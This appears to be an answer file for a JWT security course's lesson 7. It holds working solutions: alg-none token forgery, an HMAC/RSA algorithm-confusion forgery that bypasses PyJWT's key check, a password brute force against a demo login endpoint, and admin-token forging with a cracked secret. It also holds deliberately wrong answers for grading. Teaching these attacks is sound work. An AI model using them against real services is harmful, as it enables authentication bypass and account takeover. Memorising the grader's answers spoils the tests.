"""Answers to the exercises of lesson 7."""

import base64
import hashlib
import json
import re
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import jwt
import requests

from demo_server.wordlist import words
from exercises.lesson_07 import read
from exercises.lesson_07.flag_by_forging import cracked, flag
from exercises.lesson_07.flag_by_guessing import guessed
from tests.exercises.answers import Answers


def by_text(token: str, name: str) -> str:
    payload = token.split(".")[1]
    text = base64.urlsafe_b64decode(payload + "==").decode().replace('"mallory"', f'"{name}"')
    return f"eyJhbGciOiJub25lIn0.{base64.urlsafe_b64encode(text.encode()).decode().rstrip('=')}."


def by_pyjwt(token: str, pem: bytes, name: str) -> str:
    """Let PyJWT sign, past its own lock on public keys, by an HMAC key that it does not look at."""
    claims = jwt.decode(token, options={"verify_signature": False}) | {"sub": name}

    class Hmac(jwt.algorithms.HMACAlgorithm):
        def prepare_key(self, key: Any) -> bytes:
            return key if isinstance(key, bytes) else str(key).encode()

    jws = jwt.PyJWS()
    jws.unregister_algorithm("HS256")
    jws.register_algorithm("HS256", Hmac(Hmac.SHA256))
    return jws.encode(json.dumps(claims).encode(), pem, "HS256")


def by_signing_input(token: str) -> bytes:
    return hashlib.sha256(token.rpartition(".")[0].encode()).digest()


def with_threads(url: str) -> str:
    with requests.Session() as session:
        for word in words():
            form = {"id_give": "erin", "pw_give": word}
            answer = session.post(f"{url}/sign_in", data=form).json()
            if answer["result"] == "success":
                session.cookies.set("mytoken", answer["token"])
                with ThreadPoolExecutor(1) as pool:
                    asked = pool.submit(session.get, f"{url}/flag").result()
                return str(asked.json()["msg"])
    return ""


def says_flag(url: str) -> str:
    return "flag-000000000000" if guessed(url) else ""


def by_jwt_encode(url: str, token: str) -> str:
    claims = jwt.decode(token, options={"verify_signature": False})
    return flag(url, jwt.encode(claims | {"id": "admin"}, cracked(token), algorithm="HS256"))


def asks_twice(url: str, token: str) -> str:
    requests.get(f"{url}/temp", timeout=9)
    return by_jwt_encode(url, token)


def guesses_the_flag(_url: str, _token: str) -> str:
    return "flag-123456123456"


def by_dots(url: str, line: str) -> str:
    words_of_it = re.split(r"[^\w.-]+", line)
    return flag(url, max(words_of_it, key=lambda word: (word.count("."), len(word))))


def header_only(url: str, line: str) -> str:
    return flag(url, line.partition("Bearer ")[2].partition(",")[0])


def known(token: str) -> str:
    return str(read(token.split(".")[1]).get("sub"))


RIGHT: Answers = {
    "unsigned_for": [by_text],
    "confused_for": [by_pyjwt],
    "list_name": [by_signing_input],
    "flag_by_guessing": [with_threads],
    "flag_by_forging": [by_jwt_encode],
    "flag_by_replay": [by_dots],
}
WRONG: Answers = {
    "list_name": [known],
    "flag_by_guessing": [says_flag],
    "flag_by_forging": [asks_twice, guesses_the_flag],
    "flag_by_replay": [header_only],
}
